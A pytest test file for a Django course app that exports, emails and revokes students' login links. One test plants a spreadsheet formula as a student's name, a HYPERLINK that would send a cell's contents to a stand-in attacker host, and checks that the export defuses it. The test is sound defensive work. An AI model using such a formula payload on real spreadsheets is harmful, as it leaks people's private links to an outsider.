"""Links of all students."""

import codecs
import csv
import io
import uuid

from django.utils import formats, timezone

from peerorder.files import read_sheet
from peerorder.web.audit.models import Event
from peerorder.web.mail.models import Mail
from peerorder.web.people.links import make_link
from peerorder.web.people.models import Link, Person
from tests.web.factories import enter_by

HERE = "http://127.0.0.1:8000"


def test_it_works(enter, client, instructor, course, students):
    old = make_link(students[0].person)
    answer = enter(instructor).post(f"/courses/{course.pk}/people/links/export/", {"who": "all", "format": "csv"})
    assert answer["Content-Disposition"] == 'attachment; filename="links.csv"'
    assert "no-store" in answer["Cache-Control"]
    assert answer.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [row["student"] for row in rows] == sorted(member.student for member in students)
    assert rows[0]["name"] == "Bo"
    assert rows[0]["email"] == "bo@example.edu"
    for link in (rows[0]["link"], old):
        client.logout()
        assert enter_by(client, link).wsgi_request.user == students[0].person
    assert Event.objects.get(verb="links exported").details == {"links": 8}
    assert all(row["link"].rsplit("/", 2)[1] not in str(Link.objects.values_list()) for row in rows)


def test_no_name_is_a_formula(enter, instructor, course, students):
    """M13: people choose their names, and instructors open this file in a spreadsheet."""
    formula = '=HYPERLINK("http://evil.example.org/"&D2,"see")'
    Person.objects.filter(pk=students[0].person_id).update(name=formula)
    answer = enter(instructor).post(f"/courses/{course.pk}/people/links/export/", {"who": "all", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
    assert rows[0]["name"] == f"'{formula}"


def test_as_a_workbook(enter, instructor, course, students, tmp_path):
    answer = enter(instructor).post(f"/courses/{course.pk}/people/links/export/", {"who": "never", "format": "xlsx"})
    (tmp_path / "links.xlsx").write_bytes(answer.content)
    sheet = read_sheet(tmp_path / "links.xlsx")
    assert sheet.header == ("student", "name", "email", "link")
    assert len(sheet) == 8


def test_send_to_those_who_never_came(enter, instructor, course, students):
    Person.objects.filter(pk=students[0].person_id).update(last_login=timezone.now())
    Person.objects.filter(pk=students[1].person_id).update(email="")
    said = {"who": "never", "once": str(uuid.uuid4())}
    client = enter(instructor)
    for _ in range(2):
        assert client.post(f"/courses/{course.pk}/people/links/send/", said).url == f"/courses/{course.pk}/mails/"
    assert set(Mail.objects.values_list("person_id", flat=True)) == {member.person_id for member in students[2:]}
    assert Mail.objects.first().course_id == course.pk
    assert Event.objects.get().details == {"mails": 6}
    client.post(f"/courses/{course.pk}/people/links/send/", said | {"once": str(uuid.uuid4())})
    assert Mail.objects.count() == 12


def test_forms_that_are_no_forms(enter, instructor, course, students):
    client = enter(instructor)
    for said in ({}, {"who": "me"}, {"who": "all", "once": "nonsense"}):
        assert client.post(f"/courses/{course.pk}/people/links/send/", said).status_code == 302
    assert client.post(f"/courses/{course.pk}/people/links/export/", {"who": "all", "format": "exe"}).status_code == 302
    assert not Mail.objects.exists()
    assert not Link.objects.exists()


def test_revoke_all(enter, client, instructor, course, students, outsider):
    links = [make_link(member.person) for member in students]
    staffs, others = make_link(instructor.person), make_link(outsider.person)
    enter(instructor).post(f"/courses/{course.pk}/people/links/revoke/")
    for link in links:
        assert client.get(link.removeprefix(HERE)).status_code == 404
    for link in (staffs, others):
        assert client.get(link.removeprefix(HERE)).status_code == 200
    assert Event.objects.get(verb="links revoked").details == {"links": 8}


def test_the_page(enter, instructor, course, students):
    page = enter(instructor).get(f"/courses/{course.pk}/people/links/").content.decode()
    assert "8 students" in page
    assert formats.date_format(course.ends_on) in page


def test_who_has_no_link_is_pointed_out(enter, instructor, course, students, work_off):
    make_link(students[0].person)
    Person.objects.filter(pk=students[1].person_id).update(email="")
    students[2].person.set_password("rosebud rosebud")
    students[2].person.save()
    client = enter(instructor)
    page = client.get(f"/courses/{course.pk}/people/")
    assert (page.context["without"], page.context["by_mail"]) == (6, 5)
    for shown in ("?state=without", "6 students do not", "Send 5 links"):
        assert shown in page.content.decode()
    assert "6 students do not" in client.get(f"/courses/{course.pk}/").content.decode()
    client.post(f"/courses/{course.pk}/people/links/send/", {"who": "without", "once": str(uuid.uuid4())})
    assert set(Mail.objects.values_list("person_id", flat=True)) == {member.person_id for member in students[3:]}
    # What waits to be sent is as good as sent.
    page = client.get(f"/courses/{course.pk}/people/?state=without").content.decode()
    assert "1 student does not have a link yet" in page
    assert ">Cy<" in page
    assert ">Di<" not in page
    client.post(f"/courses/{course.pk}/people/links/export/", {"who": "without", "format": "csv"})
    page = client.get(f"/courses/{course.pk}/people/")
    assert page.context["without"] == 0
    assert "?state=without" not in page.content.decode()


def test_assistants_see_it_but_do_nothing(enter, assistant, course, students):
    page = enter(assistant).get(f"/courses/{course.pk}/people/").content.decode()
    assert "8 students do not" in page
    assert "links/send/" not in page
